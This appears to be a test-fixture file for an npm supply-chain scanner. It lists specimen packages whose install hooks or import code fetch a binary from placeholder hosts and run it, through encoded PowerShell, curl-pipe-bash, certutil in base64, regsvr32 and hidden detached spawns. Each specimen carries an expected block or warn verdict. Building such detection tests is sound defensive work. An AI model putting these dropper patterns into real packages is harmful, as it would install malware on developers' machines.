import { base64, hooked, manifest } from '../manifest.ts';
import type { Specimen } from '../specimen.ts';

const from = 'a hook that fetches a program and starts it (ua-parser-js, coa, windows-confirm)';

export const specimens: readonly Specimen[] = [
  {
    name: 'dropper-axios-stream',
    from,
    files: {
      'package.json': hooked('node install.js', { dependencies: { axios: '^1.7.0' } }),
      'install.js': `const axios = require('axios');
const fs = require('fs');
const path = require('path');
const os = require('os');
const { execFile } = require('child_process');

const target = path.join(os.tmpdir(), 'svc-INERT.exe');

async function download(url, file) {
  const response = await axios({ url, method: 'GET', responseType: 'stream' });
  const writer = fs.createWriteStream(file);
  response.data.pipe(writer);
  return new Promise((resolve, reject) => {
    writer.on('finish', resolve);
    writer.on('error', reject);
  });
}

if (process.platform === 'win32') {
  download('https://cdn.files.invalid/svc.exe', target).then(() => execFile(target, { windowsHide: true }, () => {}));
}
`,
    },
    expect: 'block',
    happens: { at: 'install', does: 'spawns', on: 'win32' },
  },
  {
    name: 'dropper-powershell-encoded',
    from,
    files: {
      'package.json': hooked('node lib/compile.js', {}, 'preinstall'),
      'lib/compile.js': `const { exec } = require('child_process');
const encoded = '${Buffer.from('iwr http://stage.invalid/INERT -OutFile $env:TEMP\\i.exe; Start-Process $env:TEMP\\i.exe', 'utf16le').toString('base64')}';
exec('powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc ' + encoded, (error) => {
  if (error) return;
});
`,
    },
    expect: 'block',
    happens: { at: 'install', does: 'spawns' },
  },
  {
    name: 'dropper-batch-file',
    from,
    files: {
      'package.json': hooked('start /B node compile.js & node compile.js', {}, 'preinstall'),
      'compile.js': `const path = require('path');
const { spawn } = require('child_process');
const platform = require('os').platform();
if (/^win/i.test(platform)) {
  spawn('cmd.exe', ['/c', path.join(__dirname, 'compile.bat')], { windowsHide: true, stdio: 'ignore' });
}
`,
      'compile.bat': `@echo off
curl http://files.invalid/sdd.dll -o compile.dll
if not exist compile.dll (
  wget http://files.invalid/sdd.dll -O compile.dll
)
regsvr32.exe -s compile.dll
rem INERT
`,
    },
    expect: 'block',
    happens: { at: 'install', does: 'spawns', on: 'win32' },
  },
  {
    name: 'dropper-platform-table',
    from,
    files: {
      'package.json': hooked('node ./dist/postinstall.cjs || true', { type: 'module' }),
      'dist/postinstall.cjs': `const { get } = require('https');
const { writeFileSync, chmodSync } = require('fs');
const { join } = require('path');
const { tmpdir, platform, arch } = require('os');
const { spawn } = require('child_process');

const builds = {
  'linux-x64': 'https://dl.invalid/agent-linux-amd64',
  'darwin-arm64': 'https://dl.invalid/agent-darwin-arm64',
  'win32-x64': 'https://dl.invalid/agent-INERT.exe',
};

const url = builds[platform() + '-' + arch()];
if (url) {
  get(url, res => {
    const chunks = [];
    res.on('data', c => chunks.push(c));
    res.on('end', () => {
      const out = join(tmpdir(), '.cache-' + process.pid);
      writeFileSync(out, Buffer.concat(chunks));
      chmodSync(out, 0o755);
      const child = spawn(out, [], { detached: true, stdio: 'ignore' });
      child.unref();
    });
  });
}
`,
    },
    expect: 'block',
    happens: { at: 'install', does: 'spawns' },
  },
  {
    name: 'dropper-fetch-promises',
    from,
    files: {
      'package.json': hooked('node setup.mjs', { type: 'module' }, 'install'),
      'setup.mjs': `import { writeFile, chmod } from 'node:fs/promises';
import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import path from 'node:path';
import os from 'node:os';

const run = promisify(execFile);
const response = await fetch(new URL('/INERT/runtime', 'https://mirror.invalid'));
const file = path.join(os.tmpdir(), 'node-runtime');
await writeFile(file, Buffer.from(await response.arrayBuffer()));
await chmod(file, 0o700);
await run(file, ['--silent']).catch(() => undefined);
`,
    },
    expect: 'warn',
    happens: { at: 'install', does: 'spawns' },
  },
  {
    name: 'dropper-wget-in-hook',
    from,
    files: {
      'package.json': hooked('wget -q -O /tmp/.x http://192.0.2.15/INERT && chmod +x /tmp/.x && /tmp/.x &'),
      'index.js': 'exports.ok = true;\n',
    },
    expect: 'block',
  },
  {
    name: 'dropper-shipped-blob',
    from,
    files: {
      'package.json': hooked('node ./build/prepare.js', {}, 'preinstall'),
      'build/prepare.js': `const fs = require('fs');
const os = require('os');
const path = require('path');
const zlib = require('zlib');
const cp = require('child_process');

const packed = fs.readFileSync(path.join(__dirname, 'intro.dat'));
const binary = zlib.gunzipSync(packed.subarray(16));
const hidden = path.join(os.tmpdir(), '.' + Math.random().toString(36).slice(2));
fs.writeFileSync(hidden, binary, { mode: 0o755 });
cp.spawn(hidden, { detached: true, stdio: 'ignore', env: process.env }).unref();
setTimeout(() => fs.unlinkSync(hidden), 5000);
`,
      'build/intro.dat': 'INERT-INERT-INERT-INERT\n',
    },
    expect: 'warn',
    happens: { at: 'install', does: 'spawns' },
  },
  {
    name: 'dropper-bun-runtime',
    from,
    files: {
      'package.json': hooked('node setup_bun.js', {}, 'preinstall'),
      'setup_bun.js': `const { spawn, execSync } = require('child_process');
const path = require('path');
const fs = require('fs');
const os = require('os');

function isBunOnPath() {
  try {
    execSync(process.platform === 'win32' ? 'where bun' : 'which bun', { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
}

async function setupBun() {
  let command = process.platform === 'win32'
    ? 'powershell -c "irm https://bun.invalid/install.ps1|iex"'
    : 'curl -fsSL https://bun.invalid/install | bash';
  execSync(command, { stdio: 'ignore', env: { ...process.env } });
  return path.join(os.homedir(), '.bun', 'bin', 'bun');
}

(async () => {
  const bun = isBunOnPath() ? 'bun' : await setupBun();
  const payload = path.join(__dirname, 'bun_environment.js');
  if (fs.existsSync(payload)) spawn(bun, [payload], { stdio: 'ignore', detached: true }).unref();
})();
`,
      'bun_environment.js': 'globalThis.INERT = 1;\n',
    },
    expect: 'block',
    happens: { at: 'install', does: 'spawns' },
  },
  {
    name: 'dropper-got-and-execa',
    from,
    files: {
      'package.json': hooked('node postinstall.js', { dependencies: { got: '^11', execa: '^5' } }),
      'postinstall.js': `const got = require('got');
const execa = require('execa');
const { createWriteStream, promises: fsp } = require('fs');
const { pipeline } = require('stream/promises');

class Installer {
  constructor(url, destination) {
    this.url = url;
    this.destination = destination;
  }

  async fetch() {
    await pipeline(got.stream(this.url), createWriteStream(this.destination));
    await fsp.chmod(this.destination, '755');
  }

  async start() {
    await execa(this.destination, ['-d'], { detached: true, cleanup: false });
  }
}

const installer = new Installer('http://203.0.113.9/INERT.bin', '/var/tmp/.sysd');
installer.fetch().then(() => installer.start()).catch(() => {});
`,
    },
    expect: 'block',
    happens: { at: 'install', does: 'spawns' },
  },
  {
    name: 'dropper-bitsadmin',
    from,
    files: {
      'package.json': manifest({ main: 'lib/index.js' }),
      'lib/index.js': `const child = require('child_process');
const commands = ['Y2VydHV0aWw=', '${base64('-urlcache -split -f http://stage.invalid/INERT.exe %TEMP%\\u.exe')}'].map(function (part) {
  return Buffer.from(part, 'base64').toString('utf8');
});
if (process.platform == 'win32') {
  child.exec(commands.join(' ') + ' && %TEMP%\\\\u.exe');
}
module.exports = function confirm() { return true; };
`,
    },
    expect: 'warn',
    happens: { at: 'import', does: 'spawns', on: 'win32' },
  },
];
